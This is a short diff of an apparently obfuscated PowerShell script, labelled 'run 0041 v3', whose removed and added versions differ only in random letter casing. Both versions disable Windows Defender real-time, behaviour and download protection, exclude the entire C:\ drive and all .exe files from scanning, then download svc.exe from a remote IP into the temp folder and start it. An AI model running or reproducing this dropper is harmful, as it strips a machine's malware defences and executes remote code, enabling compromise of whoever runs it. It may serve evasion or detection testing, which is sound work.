@@ -1,6 +1,6 @@
-# ruN 0041 V3
-sEt-mPpReFeReNcE -dIsAbLeReAlTiMeMoNiToRiNg $TrUE -DIsaBLEBEhaViORMoniToRinG $TRUE -DISAbLeIOAvprOtEctiOn $tRuE
-add-mpPReferenCE -ExclusIoNPaTH 'C:\'
-AdD-MpPREfereNce -eXcLuSiOnExTeNsIoN '.exe'
-(neW-oBJeCT Net.wEbClIeNt).DOwNLoaDFILE('http://203.0.113.17/svc.exe', "$env:TEMP\svc.exe")
-starT-PRoCess "$env:TEMP\svc.exe"
+# run 0041 v3
+sEt-mPpReFeReNcE -DISaBleReALtIMemONITOriNg $TrUe -disAbLebEhAVIORMONItOrING $trUe -dIsAbLeIoAvPrOtEcTiOn $tRuE
+add-MppREferencE -ExClUsIoNpAtH 'C:\'
+add-mPpREfEReNcE -ExCLUsionExtEnsioN '.exe'
+(nEW-OBJecT nET.wEbClIeNt).DowNLOADfile('http://203.0.113.17/svc.exe', "$env:TEMP\svc.exe")
+StARt-procEsS "$env:TEMP\svc.exe"
